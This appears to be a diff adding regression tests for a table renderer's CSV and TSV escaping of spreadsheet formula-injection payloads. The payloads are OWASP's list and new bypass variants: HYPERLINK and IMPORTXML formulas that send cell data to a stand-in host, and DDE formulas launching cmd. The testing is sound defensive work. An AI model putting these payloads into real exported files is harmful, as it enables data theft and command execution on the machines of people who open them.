@@ -108,3 +108,111 @@ $ printf 'name\tn\na|b *c* _d_ `e` <f> & [g](h) ~i~ #j\\k\t1\n' | luong-render -
 > | :--- | ---: |
 > | a\|b \*c\* \_d\_ \`e\` \<f\> \& \[g\](h) \~i\~ \#j\\k | 1 |
 ! luong-render: 1 row read, 1 table (plain layout) written as md
+
+# OWASP's list of formula-injection payloads (data/owasp-injection.tsv;
+# OWASP's "CSV Injection" page, https://owasp.org/www-community/attacks/CSV_Injection,
+# and the articles it cites), and what it misses: blanks before the
+# formula, full-width and small = + - @, a ";" that starts a cell for a
+# reader that splits on ";" (a "'" after it; the field quoted).  Each
+# formula gets its "'"; harmless text is left as it is.  (In the CSV, a
+# CR inside a field shows as %, a TAB as ~.)
+$ luong-render -f csv data/owasp-injection.tsv | sed 's/\r$//' | tr '\r\t' '%~'
+> payload,source
+> '=1+1,OWASP: Equals to (=)
+> '+1+1,OWASP: Plus (+)
+> '-1+1,OWASP: Minus (-)
+> '@SUM(1+1),OWASP: At (@)
+> '~=1+1,OWASP: Tab (0x09)
+> "'%=1+1",OWASP: Carriage return (0x0D)
+> "'
+> =1+1",OWASP: Line feed (0x0A)
+> "'=1+2"";'=1+2","OWASP: example 1, a ; after a quote"
+> "'=1+2'"" ;,=1+2","OWASP: example 2, ; and , after quotes"
+> "'=HYPERLINK(""http://evil.example/?leak=""&A1&A2,""Error: please click for further information"")",Comma Separated Vulnerabilities: exfiltration
+> '=cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE
+> '@SUM(1+1)*cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after @
+> '+cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after +
+> '-2+3+cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after -
+> "'=DDE(""cmd"";""/C calc"";""__DdeLink_60_870516294"")",Comma Separated Vulnerabilities: DDE()
+> "'=IMPORTXML(CONCAT(""http://evil.example/?v="",CONCATENATE(A2:E2)),""//a"")",Stealing Google Docs via CSV Injection
+> "' =1+1",a space before =
+> "'  ~ =1+1",spaces and a TAB before =
+> "'% =1+1",a CR and a space before =
+> ' =1+1,a no-break space before =
+> '＝1+1,full-width =
+> '＋1+1,full-width +
+> '－1+1,full-width -
+> '＠SUM(1+1),full-width @
+> "' ＝1+1",a space before full-width =
+> '　＝1+1,an ideographic space before full-width =
+> '﹦1+1,small =
+> '﹫SUM(1+1),small @
+> "Tân An;'=1+1","a cell after ;"
+> "Tân An;' @SUM(1+1)","a cell after ; and a space"
+> "x;'＝1+1","full-width = after ;"
+> "x;'~=1+1","a TAB after ;"
+> "a,=1+1","a cell after , (quoted)"
+> a=b,harmless: = inside
+> 1-2,harmless: - inside
+> lien.he@truong.edu.vn,harmless: @ inside
+> "Tân An; Bến Lức","harmless: ; before text"
+! luong-render: 37 rows read, 1 table (plain layout) written as csv
+
+$ luong-render -f tsv data/owasp-injection.tsv
+> payload	source
+> '=1+1	OWASP: Equals to (=)
+> '+1+1	OWASP: Plus (+)
+> '-1+1	OWASP: Minus (-)
+> '@SUM(1+1)	OWASP: At (@)
+> '\t=1+1	OWASP: Tab (0x09)
+> '\r=1+1	OWASP: Carriage return (0x0D)
+> '\n=1+1	OWASP: Line feed (0x0A)
+> '=1+2";'=1+2	OWASP: example 1, a ; after a quote
+> '=1+2'" ;,=1+2	OWASP: example 2, ; and , after quotes
+> '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")	Comma Separated Vulnerabilities: exfiltration
+> '=cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE
+> '@SUM(1+1)*cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after @
+> '+cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after +
+> '-2+3+cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after -
+> '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")	Comma Separated Vulnerabilities: DDE()
+> '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")	Stealing Google Docs via CSV Injection
+> ' =1+1	a space before =
+> '  \t =1+1	spaces and a TAB before =
+> '\r =1+1	a CR and a space before =
+> ' =1+1	a no-break space before =
+> '＝1+1	full-width =
+> '＋1+1	full-width +
+> '－1+1	full-width -
+> '＠SUM(1+1)	full-width @
+> ' ＝1+1	a space before full-width =
+> '　＝1+1	an ideographic space before full-width =
+> '﹦1+1	small =
+> '﹫SUM(1+1)	small @
+> Tân An;'=1+1	a cell after ;
+> Tân An;' @SUM(1+1)	a cell after ; and a space
+> x;'＝1+1	full-width = after ;
+> x;'\t=1+1	a TAB after ;
+> a,=1+1	a cell after , (quoted)
+> a=b	harmless: = inside
+> 1-2	harmless: - inside
+> lien.he@truong.edu.vn	harmless: @ inside
+> Tân An; Bến Lức	harmless: ; before text
+! luong-render: 37 rows read, 1 table (plain layout) written as tsv
+
+# 20,000 columns, in every text format: the report's arrays grow
+# geometrically (one element at a time, this took 6 s under ASan).
+$ awk 'BEGIN { for (i = 1; i <= 20000; i++) printf "%sc%d", (i > 1 ? "\t" : ""), i; print ""; for (i = 1; i <= 20000; i++) printf "%s%d", (i > 1 ? "\t" : ""), i; print "" }' >"$T/wide.tsv"
+$ for f in table tsv csv md html; do luong-render -f $f "$T/wide.tsv" | wc -l; done
+$ luong-render -f tsv "$T/wide.tsv" | tail -1 | cut -f 1,20000
+> 3
+> 2
+> 2
+> 3
+> 45
+> 1	20.000
+! luong-render: 1 row read, 1 table (plain layout) written as table
+! luong-render: 1 row read, 1 table (plain layout) written as tsv
+! luong-render: 1 row read, 1 table (plain layout) written as csv
+! luong-render: 1 row read, 1 table (plain layout) written as md
+! luong-render: 1 row read, 1 table (plain layout) written as html
+! luong-render: 1 row read, 1 table (plain layout) written as tsv
